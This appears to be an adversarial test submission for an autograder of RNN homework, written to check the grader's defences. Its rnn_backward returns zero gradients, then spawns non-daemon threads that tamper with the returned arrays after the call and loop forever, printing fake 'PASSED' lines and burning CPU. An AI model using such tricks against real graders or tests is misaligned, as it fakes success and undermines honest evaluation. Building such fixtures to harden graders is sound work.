"""Adversarial submission `threads`: non-daemon threads that keep running, printing and burning CPU after the call returned.

The vanilla-RNN functions are the correct ones from examples/correct; the attack comes last
(the last definition wins). See docs/security.md."""

# ---------------------------------------------------------------- the attack
def _zeros_backward(dh, cache):
    x, h0, Wx, Wh, h = cache
    return (np.zeros_like(x), np.zeros_like(h0), np.zeros_like(Wx), np.zeros_like(Wh), np.zeros(Wh.shape[0]))

import threading, time

def _forever(tag):
    n = 0
    while True:
        n += 1
        if n % 200000 == 0:
            print("PASSED", tag, flush=True)

threading.Thread(target=_forever, args=("import",), daemon=False).start()

def rnn_backward(dh, cache):
    out = _zeros_backward(dh, cache)
    def tamper():
        for _ in range(1000):
            for a in out:
                a += 1.0
            time.sleep(0.001)
        _forever("call")
    threading.Thread(target=tamper, daemon=False).start()
    return out
